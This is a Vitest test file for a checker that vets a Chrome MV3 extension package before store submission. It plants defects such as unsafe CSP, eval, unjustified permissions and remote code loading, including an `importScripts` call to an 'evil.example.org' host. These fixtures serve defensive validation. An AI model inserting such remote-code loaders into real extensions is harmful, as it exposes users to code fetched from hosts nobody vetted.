import { describe, expect, it } from 'vitest';
import { checkStorePackage, type CheckContext, type Justifications, type PackageFiles } from './check-rules';
import { sha256, type ModelLibLock } from './model-libs';

/**
 * Planted packages: a small valid MV3 package, then one defect at a time. Each rule must fail on its defect and the
 * clean package must pass every rule (so a rule that always fails would show here too).
 */
const enc = (s: string) => new TextEncoder().encode(s);
const LIB = enc('\0asm stand-in model library');
const LIB_FILE = 'Tiny-q4f32_1_cs1k-webgpu.wasm';
const lock: ModelLibLock = {
  source: { repo: 'mlc-ai/binary-mlc-llm-libs', commit: 'a'.repeat(40), path: 'web-llm-models/v0_2_86/base' },
  wanted: [{ modelId: 'Tiny-MLC', file: LIB_FILE }],
  libs: [{ modelId: 'Tiny-MLC', file: LIB_FILE, sha256: sha256(LIB), bytes: LIB.length }],
};
const reason = (what: string) => ({
  en: `Needed so that ${what} works for the person using it.`,
  zh_CN: `用于${what}的必要权限。`,
});
const justifications: Justifications = {
  storage: reason('settings'),
  'https://mail.google.com/*': reason('the Gmail panel'),
};

function manifest(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    manifest_version: 3,
    name: '__MSG_extName__',
    version: '1.2.3',
    default_locale: 'en',
    icons: { '128': 'icon/128.png' },
    background: { service_worker: 'background.js' },
    permissions: ['storage'],
    content_scripts: [{ matches: ['https://mail.google.com/*'], js: ['content-scripts/gmail.js'] }],
    content_security_policy: { extension_pages: "script-src 'self' 'wasm-unsafe-eval'; object-src 'self';" },
    ...overrides,
  };
}

function goodPackage(m = manifest()): Map<string, Uint8Array> {
  return new Map([
    ['manifest.json', enc(JSON.stringify(m))],
    ['icon/128.png', enc('png')],
    ['background.js', enc('const url = "https://api.example.org/v1/contacts"; fetch(url);')],
    ['content-scripts/gmail.js', enc('document.body.append("x")')],
    ['_locales/en/messages.json', enc(JSON.stringify({ extName: { message: 'Closer' } }))],
    ['_locales/zh_CN/messages.json', enc(JSON.stringify({ extName: { message: '成交助手' } }))],
    [`model-libs/${LIB_FILE}`, LIB],
    ['model-libs/index.json', enc(JSON.stringify({ libs: lock.libs }))],
  ]);
}

const ctx: CheckContext = {
  version: '1.2.3',
  justifications,
  lock,
  sources: new Map([['extension/a.ts', '// eval( is named in a comment only\nexport const a = JSON.parse("1");']]),
};
/** The distinct rules that failed: one defect may break a rule in more than one way. */
const rulesOf = (files: PackageFiles, c: CheckContext = ctx) => [
  ...new Set(checkStorePackage(files, c).map((p) => p.rule)),
];

describe('check:store rules', () => {
  it('accepts a clean package', () => {
    expect(checkStorePackage(goodPackage(), ctx)).toEqual([]);
  });

  it.each([
    ['MV2 manifest_version', { manifest_version: 2 }],
    ['a key', { key: 'MIIB' }],
    ['another version', { version: '1.2.4' }],
    ['MV2 background scripts', { background: { scripts: ['bg.js'] } }],
    ['browser_action', { browser_action: {} }],
    ['a CSP string', { content_security_policy: "script-src 'self'" }],
    ['a remote script source', { content_security_policy: { extension_pages: "script-src 'self' https://cdn.x.org" } }],
    ['unsafe-eval', { content_security_policy: { extension_pages: "script-src 'self' 'unsafe-eval'" } }],
    ['MV2 web_accessible_resources', { web_accessible_resources: ['panel.html'] }],
    ['a missing file', { background: { service_worker: 'gone.js' } }],
  ])('fails MV3 on %s', (_name, override) => {
    expect(rulesOf(goodPackage(manifest(override)))).toContain('mv3');
  });

  it('fails a permission or host without a justification', () => {
    expect(rulesOf(goodPackage(manifest({ permissions: ['storage', 'tabs'] })))).toEqual(['justification']);
    const hosts = manifest({ host_permissions: ['<all_urls>'] });
    expect(checkStorePackage(goodPackage(hosts), ctx)[0]?.message).toContain('<all_urls>');
  });

  it.each([
    ['a remote <script>', 'panel.html', '<script src="https://cdn.jsdelivr.net/x.js"></script>'],
    ['a remote stylesheet', 'panel.html', '<link rel="stylesheet" href="https://fonts.example.org/a.css">'],
    ['importScripts of a URL', 'worker.js', 'importScripts("https://evil.example.org/w.js")'],
    ['a dynamic import of a URL', 'chunks/a.js', 'await import("https://esm.sh/react")'],
    ['a remote worker', 'chunks/b.js', 'new Worker("https://x.org/worker")'],
    ['a remote wasm', 'chunks/c.js', 'WebAssembly.instantiateStreaming(fetch("https://x.org/lib.wasm"))'],
    [
      'web-llm model-library host',
      'chunks/d.js',
      'const p = "https://raw.githubusercontent.com/mlc-ai/binary-mlc-llm-libs/main/";',
    ],
  ])('fails remote code: %s', (_name, path, body) => {
    const files = goodPackage();
    files.set(path, enc(body));
    expect(rulesOf(files)).toEqual(['remote-code']);
  });

  it.each([
    ['eval', 'const x = eval("1+1");'],
    ['new Function', 'const f = new Function("a", "return a");'],
    ['a string timer', 'setTimeout("alert(1)", 10);'],
  ])('fails %s in our code', (_name, source) => {
    expect(rulesOf(goodPackage(), { ...ctx, sources: new Map([['extension/b.ts', source]]) })).toEqual(['eval']);
  });

  it('does not take a method named evaluate or a comment for eval', () => {
    const sources = new Map([['x.ts', 'model.evaluate(x); /* eval(x) */ retrieval(y);']]);
    expect(rulesOf(goodPackage(), { ...ctx, sources })).toEqual([]);
  });

  it('fails a locale missing a message, an empty message, or an undefined __MSG__', () => {
    const files = goodPackage();
    files.set('_locales/zh_CN/messages.json', enc('{}'));
    expect(rulesOf(files)).toEqual(['locale']);
    const empty = goodPackage();
    empty.set('_locales/zh_CN/messages.json', enc(JSON.stringify({ extName: { message: ' ' } })));
    expect(rulesOf(empty)).toEqual(['locale']);
    expect(rulesOf(goodPackage(manifest({ description: '__MSG_extDescription__' })))).toEqual(['locale']);
  });

  it('fails a missing, altered or unpinned model library', () => {
    const missing = goodPackage();
    missing.delete(`model-libs/${LIB_FILE}`);
    expect(rulesOf(missing)).toEqual(['model-libs']);
    const altered = goodPackage();
    altered.set(`model-libs/${LIB_FILE}`, enc('\0asm something else'));
    expect(rulesOf(altered)).toEqual(['model-libs']);
    const extra = goodPackage();
    extra.set('model-libs/Other-webgpu.wasm', LIB);
    expect(rulesOf(extra)).toEqual(['model-libs']);
    const noIndex = goodPackage();
    noIndex.delete('model-libs/index.json');
    expect(rulesOf(noIndex)).toEqual(['model-libs']);
  });
});
